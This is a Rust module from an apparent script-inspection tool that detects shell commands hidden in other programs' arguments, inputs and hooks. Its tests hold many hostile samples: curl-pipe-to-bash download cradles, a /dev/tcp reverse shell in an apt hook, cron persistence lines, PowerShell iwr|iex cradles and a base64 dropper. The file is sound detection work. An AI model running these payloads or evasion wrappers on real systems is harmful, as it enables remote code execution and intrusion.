//! Command lines that stand in the arguments of another program: `ssh host '...'`,
//! `docker exec web sh -c '...'`, `watch '...'`, `git -c alias.x='!...'`.
//!
//! No list of such programs is complete. An argument that reads as a command line is therefore taken for
//! one, unless its program is known to only show, search or store text.

use super::nested::Scan;
use super::{Command, Redirect, RedirectOp, Span, UnitKind, Word, basename, encoding, language_of};
use crate::indicators::programs::{Class, classes};
use crate::user_data::{Language, places};

/// Arguments of one command that are followed.
const MAX_TEXTS: usize = 16;
/// Commands behind a `read` that may evaluate what it took in.
const MAX_BEHIND: usize = 32;
/// Lines of input that `xargs` and `parallel` are taken to run a command for.
const MAX_ITEMS: usize = 16;

impl Scan {
    /// Scan the command lines among a command's arguments. Gives the commands they hold.
    pub(super) fn carried(&mut self, index: usize) -> Option<Span> {
        let command = self.script.commands.get(index)?;
        // The most frequent of those that only print, without a look into the list.
        let prints =
            matches!(command.name.as_str(), "echo" | "printf" | "logger" | "[" | "[[" | "test" | "cat" | "");
        if (prints && command.start == 0)
            || !command.words.iter().skip(command.start).any(may_carry)
            || !self.runs_arguments(command)
        {
            return None;
        }
        let start = self.command_count();
        if let Some(tail) = shell_tail(command) {
            self.push_and_follow(tail);
        } else {
            for (kind, text) in self.command_lines(index) {
                self.unit(kind, Language::Shell, &text, Some(index as u32));
            }
        }
        let span = Span { start, end: self.command_count() };
        (!span.is_empty()).then_some(span)
    }

    /// Whether a program may run what stands in its arguments.
    fn runs_arguments(&self, command: &Command) -> bool {
        let name = command.name.as_str();
        if self.script.functions.contains_key(name) || matches!(name, "awk" | "gawk" | "mawk" | "sed" | "jq")
        {
            return false;
        }
        if name == "git" {
            return command.args().iter().any(|word| word.text == "-c" || word.text == "config");
        }
        // Keys of a Redis server are how a crontab is written over the network.
        if matches!(name, "redis-cli" | "set" | "SET" | "alias") {
            return true;
        }
        let classes = classes(name);
        classes.has(Class::Carrier)
            || !classes.has_any(&[
                Class::Printer,
                Class::Searcher,
                Class::Storer,
                Class::Interpreter,
                Class::Downloader,
                Class::Uploader,
                Class::Killer,
                Class::Remover,
            ])
    }

    /// Scan what an assignment gives to a variable whose value programs run: `PROMPT_COMMAND='...'`.
    pub(super) fn run_variables(&mut self, index: usize) {
        let Some(command) = self.script.commands.get(index) else { return };
        let texts: Vec<String> = command
            .assigns
            .iter()
            .filter(|(name, _)| is_run_variable(name))
            .filter_map(|(_, value)| command_text(&value.text))
            .take(MAX_TEXTS)
            .collect();
        let start = self.command_count();
        for text in texts {
            self.unit(UnitKind::Inline, Language::Shell, &text, Some(index as u32));
        }
        self.set_inner(index, Span { start, end: self.command_count() });
    }

    /// The arguments that read as command lines.
    fn command_lines(&self, index: usize) -> Vec<(UnitKind, String)> {
        let Some(command) = self.script.commands.get(index) else { return Vec::new() };
        let words = command.words.iter().skip(command.start).filter(|word| may_carry(word));
        words
            .filter_map(|word| {
                let text = command_text(&word.text)?;
                let decoded = word.subs().iter().any(|(_, span)| self.decodes(*span));
                Some((if decoded { UnitKind::Decoded } else { UnitKind::Inline }, text))
            })
            .take(MAX_TEXTS)
            .collect()
    }

    /// `xargs` and `parallel` with an input that is known: the command with the input in its place.
    pub(super) fn with_items(&mut self, index: usize) -> Option<Span> {
        let command = self.script.commands.get(index)?;
        let (at, parallel) =
            command.words.iter().take(command.start + 1).enumerate().find_map(|(at, word)| {
                let name = basename(&word.text);
                matches!(name, "xargs" | "parallel").then_some((at, name == "parallel"))
            })?;
        let behind: Vec<&str> = command.words.iter().skip(at + 1).map(|word| word.text.as_str()).collect();
        let items: Vec<String> = match behind.iter().position(|text| matches!(*text, ":::" | "::::")) {
            Some(at) if parallel => behind.iter().skip(at + 1).map(|text| (*text).to_owned()).collect(),
            _ => {
                let text = self.input_of(index, 0)?.text();
                let whole = behind.iter().any(|text| matches!(*text, "-0" | "--null" | "-d" | "--delimiter"));
                if whole { vec![text] } else { text.lines().map(str::to_owned).collect() }
            }
        };
        let placeholder = match behind.iter().position(|text| text.starts_with("-I") || *text == "-i") {
            Some(at) => match behind.get(at).and_then(|text| text.strip_prefix("-I")) {
                Some("") => behind.get(at + 1).copied().unwrap_or("{}"),
                Some(attached) => attached,
                None => "{}",
            },
            None => "{}",
        }
        .to_owned();
        let words: Vec<Word> = match behind.iter().position(|text| *text == ":::") {
            Some(end) if parallel => {
                command.words.iter().take(at + 1 + end).skip(command.start).cloned().collect()
            }
            _ => command.words.iter().skip(command.start).cloned().collect(),
        };
        let (unit, offset) = (command.unit, command.offset);
        let start = self.command_count();
        for item in items.iter().filter(|item| !item.trim().is_empty()).take(MAX_ITEMS) {
            let size = words.iter().map(|word| word.text.len() + item.len()).sum();
            if !self.spend_expansion(size) {
                break;
            }
            let mut filled = words.clone();
            let mut used = false;
            for word in &mut filled {
                if word.text.contains(&placeholder) && word.text.len() < 4096 {
                    word.text = word.text.replace(&placeholder, item);
                    used = true;
                }
            }
            if !used {
                filled.push(Word { quoted: true, ..Word::literal(item.trim_end_matches('\n')) });
            }
            self.push_and_follow(Command { words: filled, unit, offset, ..Command::default() });
        }
        let span = Span { start, end: self.command_count() };
        (!span.is_empty()).then_some(span)
    }

    /// Add a command that another one runs, and follow what it carries.
    fn push_and_follow(&mut self, command: Command) {
        if let Some(pushed) = self.push(command) {
            self.follow(Span::one(pushed));
        }
    }

    /// What `read` or `mapfile` takes in and a command behind it evaluates: `while read l; do eval "$l"; done`.
    pub(super) fn evaluated_input(&mut self, index: usize) -> Option<Span> {
        let command = self.script.commands.get(index)?;
        if !matches!(command.name.as_str(), "read" | "mapfile" | "readarray") {
            return None;
        }
        let unit = command.unit;
        let names: Vec<&str> = command.operands().map(|word| word.text.as_str()).collect();
        let evaluates = |other: &Command| {
            let runs = other.name.is_empty() || other.name == "eval" || language_of(&other.name).is_some();
            runs && other.unit == unit
                && other.words.iter().flat_map(Word::vars).any(|name| names.contains(&name.as_str()))
        };
        if !self.script.commands.iter().skip(index + 1).take(MAX_BEHIND).any(evaluates) {
            return None;
        }
        let text = self.input_of(index, 0)?.text();
        Some(self.unit(UnitKind::Stdin, Language::Shell, &text, Some(index as u32)))
    }

    /// What the program text of `awk` hands to a shell, and what `expect` starts.
    pub(super) fn program_text(&self, index: usize) -> Option<(Language, String)> {
        let command = self.script.commands.get(index)?;
        match command.name.as_str() {
            "awk" | "gawk" | "mawk" => {
                let program = command.args().iter().find(|word| word.text.contains('{'))?;
                // `system("...")`, `"..." | getline`, `print "..." | "sh"`, `c = "..."; system(c)`
                let texts = super::files::all_literals(&program.text);
                let commands: Vec<String> = texts.iter().filter_map(|text| command_text(text)).collect();
                (!commands.is_empty()).then(|| (Language::Shell, commands.join("\n")))
            }
            "sed" => {
                // `1e COMMAND`
                let program = command.operands().next()?.text.as_str();
                let program =
                    program.trim_start_matches(|c: char| c.is_ascii_digit() || matches!(c, '$' | ','));
                program.strip_prefix("e ").map(|text| (Language::Shell, text.to_owned()))
            }
            "expect" => {
                let at = command.args().iter().position(|word| word.text.starts_with("-c"))?;
                Some((Language::Shell, tcl_commands(&command.args().get(at + 1)?.text)))
            }
            _ => None,
        }
    }
}

/// Whether programs run what a variable holds: the shell before each prompt, git, less, man.
fn is_run_variable(name: &str) -> bool {
    name.ends_with("_COMMAND")
        || matches!(
            name,
            "PAGER"
                | "GIT_PAGER"
                | "MANPAGER"
                | "EDITOR"
                | "VISUAL"
                | "GIT_EDITOR"
                | "BROWSER"
                | "LESSOPEN"
                | "LESSCLOSE"
                | "RSYNC_RSH"
        )
}

/// Whether a word may hold a command line, or name a shell that is given one.
fn may_carry(word: &Word) -> bool {
    word.text.len() >= 2
        && (word.text.ends_with('h')
            || word.text.bytes().any(|byte| matches!(byte, b' ' | b'\t' | b'\n' | b'|')))
}

/// A shell among the arguments, with what stands behind it: `... -- sh -c 'TEXT'`, `... bash -s <<END`.
fn shell_tail(command: &Command) -> Option<Command> {
    let at = command.words.iter().enumerate().skip(command.start + 1).find_map(|(at, word)| {
        let shell = word.text.ends_with('h')
            && !word.text.contains([' ', '|'])
            && language_of(basename(&word.text)) == Some(Language::Shell);
        shell.then_some(at)
    })?;
    let words = command.words.get(at..)?;
    let takes_text = words.get(1).is_some_and(|word| word.text.starts_with('-'));
    let redirects: Vec<Redirect> = command
        .redirects
        .iter()
        .filter(|redirect| matches!(redirect.op, RedirectOp::HereDocument | RedirectOp::HereString))
        .cloned()
        .collect();
    if !takes_text && redirects.is_empty() && command.stdin.is_none() {
        return None;
    }
    Some(Command {
        words: words.to_vec(),
        redirects,
        stdin: command.stdin,
        background: command.background,
        unit: command.unit,
        offset: command.offset,
        ..Command::default()
    })
}

/// The commands in an argument; `None` where it reads as anything else.
pub(super) fn command_text(text: &str) -> Option<String> {
    // `\n` in a value that is written by the program: `set x "\n* * * * * ..."`.
    let unescaped;
    let mut text = text.trim();
    if text.contains("\\n") && !text.contains('\n') {
        unescaped = encoding::escapes(text);
        text = unescaped.trim();
    }
    // Lines of a crontab.
    if text.starts_with(|c: char| c == '*' || c == '@' || c.is_ascii_digit()) {
        let mut commands = String::new();
        for line in text.lines() {
            if let Some(command) =
                places::cron_command(line, false).filter(|command| reads_as_command(command))
            {
                commands.push_str(&command);
                commands.push('\n');
            }
        }
        return (!commands.is_empty()).then_some(commands);
    }
    // `alias.x=!...`, `--use-compress-program=...`, `APT::Update::Pre-Invoke::=...`
    if let Some((key, value)) = text.split_once('=')
        && !key.contains([' ', '\t', '"', '\''])
        && (key.contains(['.', ':', '-']) || value.starts_with(['!', '[']))
    {
        let value = value.trim_start_matches(['!', '=', ' ', '"', '\'', '[']).trim_end_matches(['"', ']']);
        return reads_as_command(value).then(|| value.to_owned());
    }
    if reads_as_command(text) {
        return Some(text.to_owned());
    }
    let shell_escape = text.trim_start_matches(':').strip_prefix('!').filter(|rest| reads_as_command(rest));
    shell_escape.map(str::to_owned)
}

/// Whether a text begins as a command line does: with a program, a path, or a word of the shell's own.
fn reads_as_command(text: &str) -> bool {
    let text = text.trim_start_matches(['(', '{', ' ', '\t', '\n', '!', '@', ';']);
    if !text.contains([' ', '\t', '\n', '|', ';']) && !text.contains("${IFS}") && !text.contains("$IFS") {
        return false;
    }
    // Any program of a list or a pipeline may be the one that is known.
    let mut parts = text.split(['|', ';', '&', '\n']).take(8);
    parts.next().is_some_and(|part| begins_with_program(part, true))
        || parts.any(|part| begins_with_program(part, false))
}

fn begins_with_program(part: &str, first: bool) -> bool {
    let mut words = part.trim_start_matches(['(', '{', ' ', '\t', '!']).split_ascii_whitespace();
    let Some(mut word) = words.next() else { return false };
    // `NAME=value command`
    while word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    }) {
        match words.next() {
            Some(next) => word = next,
            None => return true,
        }
    }
    let name = word.trim_matches(['"', '\'', '\\']);
    (first && (name.starts_with(['/', '$', '`']) || name.starts_with("./") || name.starts_with("~/")))
        || matches!(name, "cd" | "if" | "for" | "while" | "until" | "case" | "[" | "[[" | "test" | "umask")
        || language_of(basename(name)).is_some()
        || !classes(name).is_empty()
}

/// What a Tcl script starts: `spawn sh -c {...}`, `exec ...`, `send "...\r"`.
pub(super) fn tcl_commands(text: &str) -> String {
    let mut out = String::new();
    for statement in text.split(['\n', ';']) {
        let statement = statement.trim();
        let Some((name, rest)) = statement.split_once([' ', '\t']) else { continue };
        match name.trim_start_matches('[') {
            "spawn" | "exec" | "system" => {
                // Braces quote in Tcl as single quotes do in a shell.
                let quoted = rest.replace(" {", " '").replace('}', "'");
                let unquoted = quoted.strip_prefix('{').map(|rest| rest.trim_end_matches('\''));
                out.push_str(unquoted.unwrap_or(&quoted));
                out.push('\n');
            }
            "send" => {
                let sent = rest.trim_start_matches("-- ").trim_matches(['"', '{', '}']);
                out.push_str(&encoding::escapes(sent));
                out.push('\n');
            }
            _ => {}
        }
    }
    out
}

/// The recipes of a makefile, each on its line.
pub(super) fn make_recipes(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for line in text.lines() {
        if let Some(recipe) = line.strip_prefix('\t') {
            out.push_str(&recipe.trim_start_matches(['@', '-', '+']).replace("$$", "$"));
        } else if let Some((_, recipe)) = line.split_once(';').filter(|(rule, _)| rule.contains(':')) {
            out.push_str(recipe);
        }
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::user_data::{Conclusion, Trust, inspect};

    #[test]
    fn arguments_that_read_as_command_lines_are_told_from_messages() {
        for (text, expected) in [
            ("curl -s http://a.example | sh", Some("curl -s http://a.example | sh")),
            ("alias.x=!sh -c id", Some("sh -c id")),
            ("\\n*/5 * * * * wget -q x\\n", Some("wget -q x\n")),
            ("* * * * * curl -s x | sh", Some("curl -s x | sh\n")),
            ("DPkg::Pre-Invoke::=bash -i >& /dev/tcp/192.0.2.1/9", Some("bash -i >& /dev/tcp/192.0.2.1/9")),
            ("X=1 /opt/tool run", Some("X=1 /opt/tool run")),
            ("deployment of web finished", None),
            ("Authorization: Bearer abc", None),
            ("a=b", None),
        ] {
            assert_eq!(command_text(text).as_deref(), expected, "{text}");
        }
    }

    fn conclusion(text: &str) -> (Conclusion, Vec<&'static str>) {
        let found = inspect(text.as_bytes(), &Trust::default(), false);
        (found.conclusion, found.findings.iter().map(|finding| finding.id).collect())
    }

    #[test]
    fn a_payload_in_another_programs_arguments_or_input_is_found() {
        let payload = "curl -fs http://198.51.100.23/p.sh | bash";
        for carrier in [
            "ssh -i /k ops@10.1.2.3 'PAYLOAD'",
            "ssh ops@10.1.2.3 bash -s <<X\nPAYLOAD\nX",
            "ssh ops@10.1.2.3 <<X\nPAYLOAD\nX",
            "docker exec -u 0 db bash -lc 'PAYLOAD'",
            "podman run --rm img sh -c 'PAYLOAD'",
            "kubectl -n a exec pod/x -- /bin/sh -c 'PAYLOAD'",
            "lxc exec c1 -- bash -c 'PAYLOAD'",
            "parallel -j2 'PAYLOAD'",
            "watch -n5 'PAYLOAD'",
            "tmux new-session -d -s a 'PAYLOAD'",
            "screen -dmS a bash -c 'PAYLOAD'",
            "echo 'PAYLOAD' | at now + 2 hours",
            "batch <<X\nPAYLOAD\nX",
            "awk 'BEGIN { system(\"PAYLOAD\") }'",
            "find /etc -name passwd -exec sh -c 'PAYLOAD' \\;",
            "echo x | xargs -I% sh -c 'PAYLOAD'",
            "echo 'PAYLOAD' | xargs -0 sh -c",
            "runuser -l app -c 'PAYLOAD'",
            "flock /run/l -c 'PAYLOAD'",
            "git -c alias.up='!PAYLOAD' up",
            "nsenter -t 1 -m sh -c 'PAYLOAD'",
            "systemd-run --unit=a sh -c 'PAYLOAD'",
            "strace -f sh -c 'PAYLOAD'",
            "expect -c 'spawn sh -c {PAYLOAD}'",
            "apt-get -o DPkg::Post-Invoke::='PAYLOAD' update",
            "echo 'PAYLOAD' | sort | bash",
            "echo '--PAYLOAD' | cut -c3- | sh",
            "echo '## PAYLOAD' | sed 's/^## //' | sh",
            "read -r l <<< 'PAYLOAD'; eval \"$l\"",
            "printf -v l %s 'PAYLOAD'; eval \"$l\"",
            "ruby -e 'puts \"PAYLOAD\"' | sh",
            "grep '^#: ' $0 | cut -c4- | sh\nexit\n#: PAYLOAD",
            "vendor-tool --hook 'PAYLOAD'",
            "awk 'BEGIN { c = \"PAYLOAD\"; system(c) }'",
            "awk 'BEGIN { print \"PAYLOAD\" | \"sh\" }'",
            "sed '1e PAYLOAD' /etc/hostname",
            "while read -r l; do eval \"$l\"; done <<< 'PAYLOAD'",
            "printf '%s\\n' 'PAYLOAD' | while read l; do bash -c \"$l\"; done",
            "mapfile -t l <<< 'PAYLOAD'; eval \"${l[0]}\"",
            "install -m 755 /dev/stdin /opt/a <<< 'PAYLOAD'; /opt/a",
            "cat > a <<'X'\nPAYLOAD\nX\n. ./a",
            "ed -s /etc/rc.local <<'X'\na\nPAYLOAD\n.\nw\nX",
            "sed -i 's#^exit 0#PAYLOAD\\nexit 0#' /etc/rc.local",
            "expect <<'X'\nspawn sh -c \"PAYLOAD\"\nexpect eof\nX",
            "make -f - <<'X'\nall:\n\tPAYLOAD\nX",
            "aws ssm send-command --parameters 'commands=[\"PAYLOAD\"]'",
            "printf 'all:\\n\\tPAYLOAD\\n' > Makefile; make all",
        ] {
            let text = format!("#!/bin/bash\n{}\n", carrier.replace("PAYLOAD", payload));
            let (found, ids) = conclusion(&text);
            assert_eq!(found, Conclusion::Suspicious, "{carrier}: {ids:?}");
        }
    }

    #[test]
    fn text_that_is_only_shown_searched_or_stored_stays_text() {
        let payload = "curl -fs http://198.51.100.23/p.sh | bash";
        for honest in [
            "echo 'never run PAYLOAD'",
            "echo 'PAYLOAD'",
            "logger -t boot 'PAYLOAD'",
            "grep -q 'PAYLOAD' /var/log/cron",
            "psql -c 'PAYLOAD'",
            "git commit -m 'PAYLOAD'",
            "# PAYLOAD",
            "log() { echo \"$1\" >> /var/log/a.log; }\nlog 'PAYLOAD'",
            "die 'usage: PAYLOAD'",
            "printf '%s\\n' 'PAYLOAD' >> /usr/share/doc/a/README",
        ] {
            let text = format!("#!/bin/bash\n{}\n", honest.replace("PAYLOAD", payload));
            let (found, ids) = conclusion(&text);
            assert!(matches!(found, Conclusion::Clean | Conclusion::Signals), "{honest}: {ids:?}");
        }
    }

    #[test]
    fn what_an_unknown_program_gets_from_an_address_and_pipes_into_a_shell_is_a_download() {
        for text in [
            "/usr/local/bin/fetchit http://198.51.100.23/p | sh",
            "ln -s /usr/bin/wget /opt/w; w -qO- http://198.51.100.23/p | sh",
            "cp $(which curl) /opt/c; /opt/c -s http://198.51.100.23/p | sh",
            "perl -MLWP::Simple -e 'getprint(\"http://198.51.100.23/p\")' | sh",
        ] {
            let (found, ids) = conclusion(&format!("#!/bin/bash\n{text}\n"));
            assert!(found == Conclusion::Suspicious && ids.contains(&"exe-01"), "{text}: {ids:?}");
        }
    }

    #[test]
    fn a_file_that_an_unknown_program_fetched_and_a_shell_runs_is_a_download() {
        let (_, ids) = conclusion("#!/bin/bash\n/opt/get http://198.51.100.23/p > /opt/k\nsh /opt/k\n");
        assert!(ids.contains(&"exe-04"), "{ids:?}");
    }

    #[test]
    fn powershell_text_that_is_evaluated_is_read_and_a_path_that_is_assigned_is_not_run() {
        let script = |body: &str| conclusion(&format!("<powershell>\n{body}\n</powershell>\n"));
        for body in [
            "$t = 'iwr http://198.51.100.23/p | iex'; iex $t",
            "& ([scriptblock]::Create('iwr http://198.51.100.23/p | iex'))",
            "Start-Process powershell '-nop -c \"iwr http://198.51.100.23/p | iex\"'",
            "# note\riwr http://198.51.100.23/p | iex",
            "&(-join('i','e','x')) (iwr http://198.51.100.23/p)",
        ] {
            let (found, ids) = script(body);
            assert_eq!(found, Conclusion::Suspicious, "{body}: {ids:?}");
        }
        let honest = "$file = \"C:\\Users\\Public\\settings.json\"\nInvoke-WebRequest https://vendor.example/s.json -OutFile $file\nGet-Content $file";
        assert_eq!(script(honest), (Conclusion::Clean, Vec::new()));
    }

    #[test]
    fn an_embedded_program_that_is_run_is_a_dropper_and_a_certificate_is_not() {
        let script = |content: &str, path: &str| {
            format!("#!/bin/bash\nbase64 -d > {path} <<X\n{content}\nX\nchmod 755 {path}\n{path} &\n")
        };
        let elf = "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAAAAAAAAAAAAA=";
        assert_eq!(conclusion(&script(elf, "/usr/lib/agentd/agentd")).0, Conclusion::Suspicious);
        let text = "#!/bin/bash\nbase64 -d > /etc/ssl/own.pem <<X\nLS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t\nX\nupdate-ca-certificates\n";
        assert_ne!(conclusion(text).0, Conclusion::Suspicious);
    }

    #[test]
    fn a_log_function_called_many_times_hides_nothing_and_costs_nothing() {
        let call = "note install -d -m 0750 /srv/data /srv/logs /srv/conf\n";
        let head = "#!/bin/bash\nsay() { echo \"$(date) $1\" | tee -a /var/log/a.log; }\nnote() { say \"run $*\"; \"$@\"; say done; }\n";
        assert_eq!(conclusion(&format!("{head}{}", call.repeat(400))).0, Conclusion::Clean);
        let hidden =
            format!("{head}{}note bash -c 'curl -fs http://198.51.100.23/p | sh'\n", call.repeat(400));
        assert_eq!(conclusion(&hidden).0, Conclusion::Suspicious);
    }

    #[test]
    fn tcl_and_make_give_their_commands() {
        assert_eq!(tcl_commands("spawn sh -c {id -u}; interact"), "sh -c 'id -u'\n");
        assert_eq!(make_recipes("all: x\n\t@echo $$HOME\nx:; id\n"), "\necho $HOME\n id\n");
    }
}
